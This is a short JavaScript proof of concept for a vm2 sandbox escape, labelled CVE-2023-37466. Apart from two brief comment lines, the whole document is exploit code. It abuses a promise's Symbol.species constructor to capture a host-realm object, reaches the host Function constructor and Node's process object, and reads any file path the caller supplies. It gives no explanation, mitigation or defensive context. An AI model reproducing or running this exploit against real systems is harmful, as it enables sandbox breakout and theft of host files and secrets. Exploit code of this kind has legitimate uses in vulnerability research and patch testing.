// `then` asks a promise's constructor for its species, and hands that the functions which settle it.
// after: read
// source: vm2: CVE-2023-37466
async function attack({ path }) {
  const taken = [];
  const promise = store.get('x');
  promise.constructor = {
    [Symbol.species]: class {
      constructor(executor) { executor((value) => value, (error) => taken.push(error)); }
    },
  };
  promise.then(() => {});
  const process = (taken[0] ?? promise.then).constructor.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
